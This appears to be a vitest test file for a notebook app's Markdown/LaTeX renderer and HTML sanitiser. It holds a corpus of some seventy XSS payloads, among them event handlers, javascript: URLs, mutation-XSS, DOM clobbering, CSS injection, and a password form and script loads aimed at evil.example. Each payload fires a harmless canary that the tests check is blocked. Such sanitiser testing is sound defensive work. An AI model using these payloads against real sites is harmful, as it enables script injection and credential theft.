// @vitest-environment jsdom
import { beforeEach, describe, expect, test } from 'vitest';
import { renderLatex, renderMarkdown } from '../src/core/markdown';
import { cleanStyle, ID_PREFIX, sanitize } from '../src/core/sanitize';

const canary = { fired: false };
const options = { externalImages: true };

beforeEach(() => {
  canary.fired = false;
  (window as unknown as { canary: () => void }).canary = () => (canary.fired = true);
});

/** Attacks that people have used on sanitisers and on notebook front ends, each with a way to call `canary()`. */
const CORPUS = [
  '<script>canary()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=canary()>',
  '<img src="x` `<script>canary()</script>"` `>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x></svg>',
  '<svg><a xlink:href="javascript:canary()"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<math href="javascript:canary()">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<template><script>canary()</script></template>',
  '<iframe src="javascript:canary()"></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<object data="javascript:canary()"></object><embed src="javascript:canary()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:canary()">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=canary()><select onfocus=canary() autofocus><textarea>',
  '<button formaction="javascript:canary()">x</button>',
  '<a href="javascript:canary()">x</a>',
  '<a href="jAvAsCrIpT:canary()">x</a>',
  '<a href="java\nscript:canary()">x</a>',
  '<a href="&#106;avascript:canary()">x</a>',
  '<a href=" &#14; javascript:canary()">x</a>',
  '<a href="data:text/html,<script>canary()</script>">x</a>',
  '<a href="vbscript:canary()">x</a>',
  '<a href="//evil.example">x</a><a href="/api/v1/logout">x</a><a href="?x">x</a>',
  '<a href="https://evil.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<details open ontoggle=canary()>x</details>',
  '<video><source onerror=canary()></video><audio src=x onerror=canary()>',
  '<body onload=canary()><div onclick=canary() onmouseover=canary()>x</div>',
  '<marquee onstart=canary()>x</marquee>',
  '<div style="background:url(javascript:canary())">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999">x</div>',
  '<div style="width:expression(canary())">x</div>',
  '<div style="background-image:url(https://evil.example/?x)">x</div>',
  '<div style="margin-top:-5000px;transform:translateY(-900px)">x</div>',
  '<div style="color:red;}body{display:none">x</div>',
  '<p style="\\70osition:fixed">x</p>',
  '<div id="app" name="app">x</div><a id="location"></a><img name="cookie">',
  '<a id=defaultView><a id=defaultView name=x href=x>',
  '<div class="lo-tools button dialog" data-cell-id="1" data-command="run" role="button" tabindex="0" aria-live="assertive">x</div>',
  '<div contenteditable accesskey="x" draggable="true" popover="auto" popovertarget="x" hidden>x</div>',
  '<div is="x-evil" slot="x" part="x" nonce="x">x</div><x-evil onclick=canary()>x</x-evil>',
  '<img srcset="https://evil.example/a 1x" src="/api/v1/me"><img src="blob:http://localhost/x"><img src="file:///etc/passwd">',
  '<img src="data:text/html,<script>canary()</script>">',
  '<table background="https://evil.example/x"><td background="javascript:canary()">x</td></table>',
  '<!--[if gte IE 4]><script>canary()</script><![endif]--><!--><img src=x onerror=canary()>-->',
  '<![CDATA[<script>canary()</script>]]><?xml-stylesheet href="javascript:canary()"?>',
  '<p>'.repeat(300) + '<img src=x onerror=canary()>',
  '<isindex type=image src=1 onerror=canary()><keygen autofocus onfocus=canary()>',
  '[x](javascript:canary())', '[x](<javascript:canary()>)', '![x](javascript:canary())', '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:canary()>', '[x]: javascript:canary()\n\n[x]', '[a](https://a.org "x\\" onclick=canary()")',
  '```"><img src=x onerror=canary()>\ncode\n```', '# <img src=x onerror=canary()>', '| <img src=x onerror=canary()> |\n|---|\n| x |',
  '$\\href{javascript:canary()}{x}$', '$\\url{javascript:canary()}$', '$\\includegraphics{https://evil.example/x}$',
  '$\\htmlClass{lo-tools}{x}$ $\\htmlId{app}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlData{command=run}{x}$',
  '$<img src=x onerror=canary()>$', '$$\\def\\x{\\x\\x}\\x$$', '$\\rule{99999em}{99999em}$', '![x](attachment:x" onerror=canary() ")',
]; // prettier-ignore

const FORBIDDEN =
  'script, style, form, iframe, object, embed, base, meta, link, input, button, select, textarea, template, video, audio, marquee, [name], [autofocus], [contenteditable], [tabindex], [srcset], [popover], [is], [ping], [formaction], [accesskey], [draggable], [background]';

function harm(root: ParentNode): string[] {
  const found: string[] = [];
  if (root.querySelector(FORBIDDEN) !== null) found.push(`element ${root.querySelector(FORBIDDEN)?.outerHTML}`);
  for (const element of root.querySelectorAll('*')) {
    const math = element.closest('.katex, .katex-error') !== null;
    for (const { name, value } of element.attributes) {
      if (/^on|^data-/i.test(name)) found.push(name);
      if (name === 'id' && !value.startsWith(ID_PREFIX)) found.push(`id ${value}`);
      if (name === 'href' && !/^(https?:\/\/|mailto:|#user-content-)/.test(value)) found.push(`href ${value}`);
      if (name === 'href' && !value.startsWith('#') && element.getAttribute('rel') !== 'noopener noreferrer')
        found.push('rel');
      if (name === 'href' && !value.startsWith('#') && element.getAttribute('target') !== '_blank')
        found.push('target');
      if (name === 'src' && !/^(https?:\/\/|data:image\/)/.test(value)) found.push(`src ${value}`);
      if (name === 'style' && /url|fixed|expression|javascript|z-index|transform|margin-top: ?-[1-9]\d/i.test(value))
        found.push(`style ${value}`);
      if (
        name === 'class' &&
        !math &&
        !/^(|(lo-(math|math-block|task|task-done|tasks)|language-\S+)( |$))+$/.test(value)
      )
        found.push(`class ${value}`);
      if (math && /lo-tools/.test(value)) found.push(`class ${value}`);
    }
  }
  return found;
}

describe('test_sec_34 the corpus', () => {
  test.each(CORPUS.map((source) => [source.slice(0, 80), source]))('%s', async (_name, source) => {
    for (const make of [
      renderMarkdown(source, options),
      renderLatex(source),
      Promise.resolve(sanitize(source, options)),
    ]) {
      const host = document.createElement('div');
      document.body.append(host);
      host.append(await make);
      expect(harm(host)).toEqual([]);
      for (const element of host.querySelectorAll<HTMLElement>('*')) element.dispatchEvent(new Event('click'));
      expect(canary.fired).toBe(false);
      host.remove();
    }
  });

  test('nothing of it reaches the names of the document', async () => {
    document.body.append(
      await renderMarkdown('<a id="currentScript"></a><img name="body" id="forms" src="https://a.org/x">', options),
    );
    expect(document.querySelector('#currentScript, #forms, [name]')).toBeNull();
    document.body.replaceChildren();
  });
});

const html = async (source: string, more: object = {}): Promise<string> => {
  const host = document.createElement('div');
  host.append(await renderMarkdown(source, { ...options, ...more }));
  return host.innerHTML;
};

describe('Markdown', () => {
  test('has what GitHub has: tables, strikethrough, links, task lists', async () => {
    expect(await html('| a | b |\n|:--|--:|\n| 1 | ~~2~~ |')).toContain('<td style="text-align: right"><s>2</s></td>');
    expect(await html('see https://example.org/a.')).toContain(
      '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer">',
    );
    const tasks = await html('- [x] done\n- [ ] open');
    expect(tasks).toContain('<span class="lo-task lo-task-done" role="img">☑</span> done');
    expect(tasks).toContain('<span class="lo-task" role="img">☐</span> open');
  });

  test('headings are link targets inside the document', async () => {
    expect(await html('# My heading\n\n[go](#My-heading)')).toBe(
      '<h1 id="user-content-My-heading">My heading</h1>\n<p><a href="#user-content-My-heading">go</a></p>\n',
    );
  });

  test('formulas between dollars, and money left alone', async () => {
    expect(await html('inline $x^2$ and\n\n$$\\int_0^1 x\\,dx$$')).toMatch(
      /lo-math"><span class="katex">[\s\S]*katex-display/,
    );
    expect(await html('\\begin{align}a&=b\\\\c&=d\\end{align}')).toContain('katex-display');
    expect(await html('it costs $5 and $6, or \\$7')).not.toContain('katex');
    expect(await html('a $$x$$ b')).toContain('katex');
    expect(await html('`$x$`')).toContain('<code>$x$</code>');
    expect(await html('$\\notacommand$')).toContain('\\notacommand');
  });

  test('attachments become images, unknown ones nothing', async () => {
    const attachments = { 'a b.png': { 'image/png': 'aGk=\n' } };
    expect(await html('![x](attachment:a%20b.png)', { attachments })).toContain('src="data:image/png;base64,aGk="');
    expect(await html('![x](attachment:other.png)', { attachments })).not.toContain('src');
    expect(await html('![x](attachment:__proto__)', { attachments })).not.toContain('src');
  });

  test('images of other sites are an operator’s choice', async () => {
    const source = '![chart](https://example.org/a.png)';
    expect(await html(source)).toContain('referrerpolicy="no-referrer"');
    const without = await html(source, { externalImages: false });
    expect(without).not.toContain('<img');
    expect(without).toContain('example.org');
  });

  test('text/latex is text and formulas, and no markup', async () => {
    const host = document.createElement('div');
    host.append(await renderLatex('$\\displaystyle x^{2}$ <b>bold</b> *star*'));
    expect(host.querySelector('.katex')).not.toBeNull();
    expect(host.querySelector('b, em')).toBeNull();
    expect(host.textContent).toContain('<b>bold</b> *star*');
  });
});

test('cleanStyle keeps colours and spacing only', () => {
  expect(cleanStyle('color: red; position: fixed; padding:4px; background: url(x)')).toBe('color: red; padding: 4px');
  expect(cleanStyle('COLOR: #fff; margin-left: -9px; width: calc(1px + 2px)')).toBe(
    'color: #fff; width: calc(1px + 2px)',
  );
});
